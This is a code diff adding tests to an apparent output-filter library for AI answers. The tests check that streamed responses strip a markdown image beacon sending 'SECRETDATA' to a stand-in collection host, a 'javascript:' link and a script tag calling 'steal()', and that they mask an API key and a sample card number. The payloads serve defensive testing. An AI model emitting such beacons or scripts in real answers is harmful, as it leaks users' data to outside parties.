@@ -170,6 +170,39 @@ describe("guard library", () => {
     expect(r.ok ? 0 : r.refusal.status).toBe(400);
   });
 
+  it("removes images, scripts and javascript: links from answers, also when they arrive in pieces", () => {
+    const guard = createGuard(labPolicy());
+    const answer =
+      "Open 9-5. ![badge](https://collect.example.net/p.png?d=SECRETDATA) [info](javascript:alert(1)) <script>steal()</script> bye";
+    const whole = guard.filterOutput(answer).text;
+    expect(whole).not.toMatch(/collect\.example|javascript:|<script/);
+    expect(whole).toContain("[image removed]");
+    expect(whole).toContain("info");
+    for (const size of [1, 3, 7]) {
+      const f = guard.streamFilter();
+      let out = "";
+      for (let i = 0; i < answer.length; i += size) out += f.push(answer.slice(i, i + size));
+      out += f.end();
+      expect(out).toBe(whole);
+    }
+  });
+
+  it("streams mask a key and a card split across chunks, and keep benign text intact", () => {
+    const guard = createGuard(labPolicy({ output: { redact: ["pii", "secrets"] } }));
+    const answer = `Your token is ${PROMPT_KEY} and the card 4539 1488 0343 6467 is on file; mail j.carter1987@fastmail.com.`;
+    const whole = guard.filterOutput(answer).text;
+    expect(whole).not.toContain(PROMPT_KEY);
+    expect(whole).not.toContain("4539 1488 0343 6467");
+    for (const size of [2, 5, 11]) {
+      const f = guard.streamFilter();
+      let out = "";
+      for (let i = 0; i < answer.length; i += size) out += f.push(answer.slice(i, i + size));
+      expect(out + f.end()).toBe(whole);
+    }
+    const plain = guard.streamFilter();
+    expect(plain.push("Hello there, ")).toBe("Hello there, ");
+  });
+
   it("counts tokens with a tokenizer, not characters", () => {
     const guard = createGuard(labPolicy({ limits: { max_input_tokens: 50 } }));
     // 200 characters of common words are far fewer than 200 tokens; 120 words are more than 50.
